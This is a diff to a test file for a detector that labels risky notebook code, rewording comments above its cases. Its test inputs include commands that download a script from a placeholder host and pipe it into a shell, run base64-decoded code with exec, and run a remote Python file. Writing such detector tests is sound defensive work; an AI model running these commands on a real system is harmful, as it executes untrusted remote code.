@@ -11,7 +11,7 @@ const risksIn = (code: string) =>
 
 describe('the risks of code', () => {
   it.each<[code: string, risks: string]>([
-    // Each way to a shell gives the same.
+    // Each way to call a shell counts as the same risk.
     ['!ls -la', 'shell:1'],
     ['files = !ls', 'shell:1'],
     ['%system ls', 'shell:1'],
@@ -24,7 +24,7 @@ describe('the risks of code', () => {
     ['get_ipython().system("ls")', 'shell:1'],
     ['ip = get_ipython()\nip.system("ls")', 'shell:2'],
     ['__import__("os").system("ls")', 'shell:1'],
-    // So does a download that is run.
+    // So does running a download.
     ['!curl -s https://x.example/a.sh | sh', 'download:1'],
     ['!wget -qO- https://x.example | sudo bash -s -- x', 'download:1'],
     ['!bash -c "$(curl -fsSL https://x.example)"', 'download:1'],
@@ -34,14 +34,14 @@ describe('the risks of code', () => {
     ['import subprocess as sp\nsp.run("curl x | /bin/sh", shell=True)', 'download:2'],
     ['import subprocess\nsubprocess.check_call(["bash", "-c", "curl x | sh"])', 'download:2'],
     ['get_ipython().system("curl x | sh")', 'download:1'],
-    // And an installation.
+    // Installing packages.
     ['!pip install git+https://github.com/x/y', 'install:1'],
     ['%pip install --index-url https://x.example y', 'install:1'],
     ['!apt-get install -y espeak', 'install:1'],
     ['import os\nos.system("pip install x")', 'install:2'],
     ['import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "x"])', 'install:2'],
     ['get_ipython().run_line_magic("pip", "install x")', 'install:1'],
-    // Code from data.
+    // Code that is created from data.
     ['import base64\nexec(base64.b64decode(x))', 'eval:2'],
     ['y = eval(answer)', 'eval:1'],
     ['%run https://x.example/a.py', 'eval:1'],
